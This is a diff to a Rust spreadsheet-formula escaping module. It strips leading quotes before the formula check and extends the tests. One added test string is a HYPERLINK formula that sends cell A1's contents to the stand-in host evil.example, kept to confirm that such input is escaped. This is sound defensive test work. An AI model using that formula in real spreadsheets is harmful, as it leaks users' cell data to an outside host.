@@ -29,7 +29,7 @@ fn is_formula(text: &str) -> bool {
 /// assert_eq!(unescape("'=x"), "=x");
 /// ```
 pub fn escape(text: &str) -> Cow<'_, str> {
-    match is_formula(text.trim_start_matches('\'')) {
+    match is_formula(inner(text)) {
         true => Cow::Owned(format!("'{text}")),
         false => Cow::Borrowed(text),
     }
@@ -38,9 +38,14 @@ pub fn escape(text: &str) -> Cow<'_, str> {
 /// Takes back what [`escape`] did.
 pub fn unescape(text: &str) -> &str {
     match text.strip_prefix('\'') {
-        Some(rest) if is_formula(text.trim_start_matches('\'')) => rest,
+        Some(rest) if is_formula(inner(text)) => rest,
         _ => text,
     }
+}
+
+/// What a program sees that takes quotes at the beginning for its own: a list may be enclosed by others.
+fn inner(text: &str) -> &str {
+    text.trim_start_matches(['\'', '"'])
 }
 
 #[cfg(test)]
@@ -50,7 +55,7 @@ mod tests {
 
     proptest! {
         #[test]
-        fn escaping_is_undone(text in "['=+@\t\r0-9 a-]{0,8}") {
+        fn escaping_is_undone(text in "['\"=+@\t\r0-9 a-]{0,8}") {
             let escaped = escape(&text);
             prop_assert_eq!(unescape(&escaped), text.as_str());
             prop_assert!(!is_formula(&escaped));
@@ -77,6 +82,7 @@ mod tests {
             "\t=1",
             "+380-97-111",
             "+7/910/1",
+            "\"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"",
         ] {
             assert_ne!(escape(text), text);
         }
